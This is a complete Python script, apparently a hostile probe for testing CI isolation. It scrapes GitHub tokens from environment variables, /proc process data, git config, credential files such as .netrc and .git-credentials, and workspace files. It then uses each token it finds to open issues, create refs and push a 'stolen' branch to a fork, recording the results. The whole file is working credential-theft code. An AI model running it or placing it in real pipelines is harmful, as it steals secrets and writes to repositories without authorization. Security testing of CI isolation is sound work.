"""A check that is up to no good: reads all that its job lets it read, and tries to write with what it finds.

Run as `python thief.py API FORK OUT`: what it found and what it was answered goes to OUT as JSON.
"""

from __future__ import annotations

import base64
import json
import os
import re
import subprocess
import sys
import tempfile
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path

TOKEN = re.compile(rb"(?:gh[a-z]_|github_pat_)[A-Za-z0-9_.\-]{10,}")
BASIC = re.compile(rb"(?i)basic\s+([A-Za-z0-9+/=]{16,})")
LARGEST = 4_000_000


def sources() -> Iterator[bytes]:
    """Everything within reach."""
    yield "\n".join(f"{name}={value}" for name, value in os.environ.items()).encode()
    for process in Path("/proc").glob("[0-9]*"):
        for name in ("environ", "cmdline"):
            yield read(process / name)
    for config in (["--list"], ["--global", "--list"], ["--system", "--list"]):
        yield subprocess.run(["git", "config", *config], capture_output=True, check=False).stdout
    home = Path(os.environ.get("HOME", "/"))
    for name in (
        ".netrc",
        ".git-credentials",
        ".gitconfig",
        ".config/git/credentials",
        ".config/gh/hosts.yml",
    ):
        yield read(home / name)
    given = ("RUNNER_TEMP", "GITHUB_WORKSPACE", "TMPDIR", "GITHUB_ENV", "GITHUB_OUTPUT", "GITHUB_STATE")
    roots = {Path.cwd(), *(Path(os.environ[name]) for name in given if os.environ.get(name))}
    for root in roots - {Path(tempfile.gettempdir())}:
        for path in [root] if root.is_file() else root.rglob("*"):
            yield read(path)


def read(path: Path) -> bytes:
    try:
        return path.read_bytes() if path.is_file() and path.stat().st_size < LARGEST else b""
    except (OSError, ValueError):
        return b""


def tokens(seen: list[bytes]) -> set[str]:
    """Whatever looks like a token, plain or in a header."""
    found: set[bytes] = set()
    for data in seen:
        found.update(TOKEN.findall(data))
        for encoded in BASIC.findall(data):
            try:
                found.update(TOKEN.findall(base64.b64decode(encoded)))
            except ValueError:
                continue
    return {one.decode() for one in found}


def answered(api: str, path: str, body: dict[str, str], token: str | None) -> int:
    headers = {"Content-Type": "application/json", **({"Authorization": f"Bearer {token}"} if token else {})}
    request = urllib.request.Request(api + path, json.dumps(body).encode(), headers, method="POST")  # noqa: S310
    try:
        with urllib.request.urlopen(request, timeout=20) as answer:  # noqa: S310
            return int(answer.status)
    except urllib.error.HTTPError as error:
        with error:
            return error.code


def pushed(url: str, token: str | None) -> int:
    address = url.replace("://", f"://x-access-token:{token}@") if token else url
    command = ["git", "push", address, "HEAD:refs/heads/stolen"]
    environment = {**os.environ, "GIT_TERMINAL_PROMPT": "0"}
    return subprocess.run(command, capture_output=True, check=False, env=environment).returncode


def main(api: str, fork: str, out: str) -> None:
    head = subprocess.run(
        ["git", "rev-parse", "HEAD"], capture_output=True, text=True, check=True
    ).stdout.strip()
    seen = [data for data in sources() if data]
    found = tokens(seen)
    tried = [
        [
            answered(api, f"/repos/{fork}/issues", {"title": "stolen"}, token),
            answered(api, f"/repos/{fork}/git/refs", {"ref": "refs/heads/stolen", "sha": head}, token),
            pushed(api.removesuffix("/api/v3") + f"/{fork}.git", token),
        ]
        for token in [None, *sorted(found)]
    ]
    about = {"sources": len(seen), "environment": any(b"GITHUB_RUN_ID=" in data for data in seen)}
    Path(out).write_text(json.dumps({"found": sorted(found), "tried": tried, **about}))


if __name__ == "__main__":
    main(*sys.argv[1:])
